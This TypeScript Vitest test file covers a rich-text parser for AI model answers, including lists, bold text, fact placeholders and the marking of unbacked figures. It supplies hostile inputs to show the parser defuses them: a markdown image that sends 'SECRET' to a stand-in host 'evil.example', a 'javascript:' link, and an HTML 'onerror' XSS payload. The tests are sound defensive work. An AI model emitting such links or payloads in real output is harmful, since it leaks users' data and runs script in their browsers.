import { expect, test } from 'vitest'
import { marksIn, parseRich, plainText } from './rich-text.ts'

test('paragraphs, lists, bold and facts are read; everything else stays text', () => {
  expect(parseRich('A **bold {{lost}}** word.\n\n- one\n- two')).toEqual([
    {
      kind: 'p',
      children: [
        { kind: 'text', text: 'A ' },
        {
          kind: 'strong',
          children: [
            { kind: 'text', text: 'bold ' },
            { kind: 'fact', id: 'lost' },
          ],
        },
        { kind: 'text', text: ' word.' },
      ],
    },
    { kind: 'ul', items: [[{ kind: 'text', text: 'one' }], [{ kind: 'text', text: 'two' }]] },
  ])
})

test('an image or link of a model becomes words with the host, never an address that is opened', () => {
  const [block] = parseRich('![logo](https://evil.example/?d=SECRET) and [here](javascript:alert(1))')
  const text = JSON.stringify(block)
  expect(text).toContain('logo (evil.example)')
  expect(text).not.toContain('SECRET')
  expect(text).not.toContain('javascript')
  expect(text).not.toContain('"href"')
})

test('HTML stays the text that it is', () => {
  expect(parseRich('<img src=x onerror=alert(1)>')).toEqual([
    { kind: 'p', children: [{ kind: 'text', text: '<img src=x onerror=alert(1)>' }] },
  ])
})

test('a figure that nothing backs is cut out of its text, each time it stands there', () => {
  const [block] = parseRich('Up 10% and again 10%.', [{ text: '10%', at: null }])
  expect(block).toEqual({
    kind: 'p',
    children: [
      { kind: 'text', text: 'Up ' },
      { kind: 'unverified', text: '10%' },
      { kind: 'text', text: ' and again ' },
      { kind: 'unverified', text: '10%' },
      { kind: 'text', text: '.' },
    ],
  })
})

test('of two figures of the same digits the one that nothing backs is marked', () => {
  const text = 'Job 24-010 is **10%** late.\n\n- 10 bills'
  const [paragraph, list] = parseRich(text, [{ text: '10%', at: text.indexOf('10%') }])

  expect(paragraph).toMatchObject({
    children: [
      { kind: 'text', text: 'Job 24-010 is ' },
      { kind: 'strong', children: [{ kind: 'unverified', text: '10%' }] },
      { kind: 'text', text: ' late.' },
    ],
  })
  expect(list).toEqual({ kind: 'ul', items: [[{ kind: 'text', text: '10 bills' }]] })
})

test('a mark belongs to the part of the answer in which it stands', () => {
  const marks = [
    { text: '7%', at: 3 },
    { text: '9%', at: 14 },
  ]
  expect(marksIn(marks, { from: 10, text: 'And 9% more' })).toEqual([{ text: '9%', at: 4 }])
})

test('copied text has the figures in words', () => {
  expect(plainText('**Lost** {{lost}}.\n\n\n\nEnd', (id) => (id === 'lost' ? '$1.00M' : ''))).toBe(
    'Lost $1.00M.\n\nEnd',
  )
})
